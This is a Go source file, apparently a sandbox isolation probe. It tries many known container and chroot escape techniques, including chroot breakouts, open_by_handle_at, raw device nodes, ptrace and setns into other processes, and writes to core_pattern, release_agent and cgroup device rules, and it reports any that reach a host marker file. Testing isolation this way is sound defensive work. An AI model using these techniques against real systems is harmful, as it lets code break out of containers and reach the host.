package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"

	"golang.org/x/sys/unix"
)

// escape tries to get out of its root to a file of the host's that its argument names, each way in a thread of its own, and
// once more in namespaces of its own. Further arguments pick ways.
func escape(args []string) {
	marker, where, only := args[0], "", args[1:]
	if len(args) == 2 {
		where, only = args[1]+" ", nil
	}
	for _, way := range []struct {
		name string
		do   func() error
	}{
		{"read", func() error { return nil }},
		{"second chroot", func() error {
			// The working directory stays outside of the second root; from there .. leads on.
			if err := os.MkdirAll("/tmp/inner", 0o755); err != nil {
				return err
			}
			if err := unix.Chroot("/tmp/inner"); err != nil {
				return err
			}
			for range 32 {
				if err := unix.Chdir(".."); err != nil {
					return err
				}
			}
			return unix.Chroot(".")
		}},
		{"kept directory", func() error {
			kept, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
			if err != nil {
				return err
			}
			if err := unix.Chroot("/tmp"); err != nil {
				return err
			}
			if err := unix.Fchdir(kept); err != nil {
				return err
			}
			for range 32 {
				if err := unix.Chdir(".."); err != nil {
					return err
				}
			}
			return unix.Chroot(".")
		}},
		{"pivot_root", func() error {
			if err := unix.PivotRoot(".", "."); err != nil {
				return err
			}
			return unix.Unmount(".", unix.MNT_DETACH)
		}},
		{"unmount the root", func() error { return unix.Unmount("/", unix.MNT_DETACH) }},
		{"open_by_handle_at", func() error {
			root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
			if err != nil {
				return err
			}
			// The root of ext4 and of most others has inode 2, xfs 64 or 128, btrfs 256.
			last := error(unix.ENOENT)
			for _, inode := range []byte{1, 2, 64, 128} {
				fd, err := unix.OpenByHandleAt(root, unix.NewFileHandle(1, []byte{inode, 0, 0, 0, 0, 0, 0, 0}), unix.O_RDONLY|unix.O_DIRECTORY)
				if err == nil {
					return unix.Fchdir(fd)
				}
				last = err
			}
			return last
		}},
		{"device of the file system", func() error {
			var st unix.Stat_t
			if err := unix.Stat("/etc/hosts", &st); err != nil && unix.Stat("/", &st) != nil {
				return err
			}
			if err := unix.Mknod("/tmp/disk", unix.S_IFBLK|0o600, int(st.Dev)); err != nil && err != unix.EEXIST {
				return err
			}
			fd, err := unix.Open("/tmp/disk", unix.O_RDONLY, 0)
			if err != nil {
				return err
			}
			buffer := make([]byte, 4096)
			_, err = unix.Read(fd, buffer)
			return err
		}},
		{"device of memory", func() error {
			if err := unix.Mknod("/tmp/mem", unix.S_IFCHR|0o600, int(unix.Mkdev(1, 1))); err != nil && err != unix.EEXIST {
				return err
			}
			_, err := unix.Open("/tmp/mem", unix.O_RDONLY, 0)
			return err
		}},
		{"root of another process", func() error { return enter("/proc/%d/root") }},
		{"working directory of another process", func() error { return enter("/proc/%d/cwd") }},
		{"trace another process", func() error {
			return others(func(pid int) error { return ptrace(unix.PTRACE_SEIZE, pid) })
		}},
		{"namespace of another process", func() error {
			return others(func(pid int) error {
				fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/mnt", pid), unix.O_RDONLY, 0)
				if err != nil {
					return err
				}
				return unix.Setns(fd, unix.CLONE_NEWNS)
			})
		}},
		{"mount the file system", func() error { return unix.Mount("/dev/root", "/tmp", "ext4", 0, "") }},
		{"mount a procfs", func() error { return unix.Mount("proc", "/tmp", "proc", 0, "") }},
		{"mount a cgroup", func() error { return unix.Mount("cgroup", "/tmp", "cgroup2", 0, "") }},
		{"bind /proc/1/root", func() error {
			if err := unix.Mount("/proc/1/root", "/tmp", "", unix.MS_BIND|unix.MS_REC, ""); err != nil {
				return err
			}
			return unix.Chroot("/tmp")
		}},
		{"user namespace", func() error {
			if len(args) > 1 { // further inside
				return unix.ENOENT
			}
			return inNamespaces("escape", marker, "further inside")
		}},
		{"load a module", func() error { return failed(second(unix.Syscall(unix.SYS_INIT_MODULE, 0, 0, 0))) }},
		{"core pattern", func() error { return os.WriteFile("/proc/sys/kernel/core_pattern", []byte("|/attacked"), 0) }},
		{"release agent", func() error {
			return os.WriteFile("/sys/fs/cgroup/devices/release_agent", []byte("/attacked"), 0)
		}},
		{"device rules", func() error { return os.WriteFile("/sys/fs/cgroup/devices/devices.allow", []byte("a"), 0) }},
	} {
		if len(only) > 0 && !slices.Contains(only, way.name) {
			continue
		}
		done := make(chan struct{})
		go func() {
			defer close(done)
			runtime.LockOSThread() // it ends with its goroutine
			_ = unix.Unshare(unix.CLONE_FS)
			err := way.do()
			step(err, "%s%s", where, way.name)
			for _, name := range []string{marker, filepath.Join(".", marker)} {
				if data, err := os.ReadFile(name); err == nil {
					fmt.Printf("ESCAPED by %s%s: %s\n", where, way.name, data)
				}
			}
		}()
		<-done
	}
}

func second(_, _ uintptr, errno unix.Errno) unix.Errno { return errno }

// others tries something on all processes but itself and its parent; also on those of the host that it can guess.
func others(try func(pid int) error) error {
	last := error(unix.ESRCH)
	for pid := 1; pid < 1000; pid++ {
		_, err := os.Stat(fmt.Sprintf("/proc/self/task/%d", pid)) // threads can be named, too
		if err == nil || pid == os.Getppid() {
			continue
		}
		err = try(pid)
		if err == nil {
			return nil
		}
		if err != unix.ESRCH && err != unix.ENOENT {
			last = err
		}
	}
	return last
}

func enter(link string) error {
	return others(func(pid int) error {
		if err := unix.Chdir(fmt.Sprintf(link, pid)); err != nil {
			return err
		}
		return unix.Chroot(".")
	})
}
